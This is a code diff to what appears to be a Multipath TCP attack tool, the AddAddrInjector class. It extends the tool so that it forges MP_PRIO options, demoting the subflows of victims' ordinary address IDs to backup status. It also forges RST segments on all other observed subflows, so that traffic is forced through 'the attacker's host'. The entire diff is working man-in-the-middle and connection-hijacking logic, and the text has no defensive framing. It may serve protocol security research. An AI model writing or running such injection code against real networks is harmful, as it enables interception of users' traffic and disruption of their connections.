@@ -29,6 +29,7 @@ namespace
 
 constexpr uint16_t LOWEST_PORT = 1024; //!< Of its own
 constexpr uint16_t PORTS = 30000;      //!< From there on
+constexpr uint8_t ORDINARY_IDS[] = {0, 1, 2, 3}; //!< Address ids that victims have
 
 } // namespace
 
@@ -102,10 +103,12 @@ AddAddrInjector::OnHostSegment(const IpSegment& segment)
     IpSegment relayed = segment;
     m_relay->Translate(relayed, *from);
     SendFromHost("relayed", relayed);
+    m_legs[*from] = Watch().Observe(segment).flow;
+    m_legs[1 - *from] = Watch().Observe(relayed).flow;
     bool up = *from == 1 && !segment.Tcp().Has(smptcp::TCP_SYN);
-    if (up && !m_reset)
+    if (up && !m_diverted)
     {
-        ResetOthers();
+        Divert();
     }
 }
 
@@ -122,18 +125,43 @@ AddAddrInjector::Accept(const IpSegment& syn)
 }
 
 void
-AddAddrInjector::ResetOthers()
+AddAddrInjector::Divert()
 {
-    m_reset = true;
+    m_diverted = true;
+    if (!m_hmac)
+    {
+        ForgePriorities(*m_legs[1], 0);
+        ForgePriorities(*m_legs[0], 1);
+    }
     for (const auto& flow : Watch().Flows())
     {
         for (unsigned end : {0u, 1u})
         {
+            if (&flow == m_legs[0] || &flow == m_legs[1])
+            {
+                continue;
+            }
             IpSegment reset = smptcp::ForgeControl(flow, end, OptionBytes());
             reset.SetFlags(smptcp::TCP_RST);
             SendFromHost("RST on a subflow it saw, so that all goes by the attacker's host", reset);
         }
     }
+}
+
+void
+AddAddrInjector::ForgePriorities(const WatchedFlow& leg, unsigned from)
+{
+    smptcp::MpPrio prio;
+    prio.backup = true;
+    for (uint8_t id : ORDINARY_IDS)
+    {
+        prio.addressId = id;
+        SendFromHost("MP_PRIO: the subflows of an address become backups",
+                     smptcp::ForgeControl(leg, from, smptcp::AreaOf(prio)));
+    }
+    prio.backup = false;
+    prio.addressId.reset();
+    SendFromHost("MP_PRIO: this one does not", smptcp::ForgeControl(leg, from, smptcp::AreaOf(prio)));
 }
 
 bool
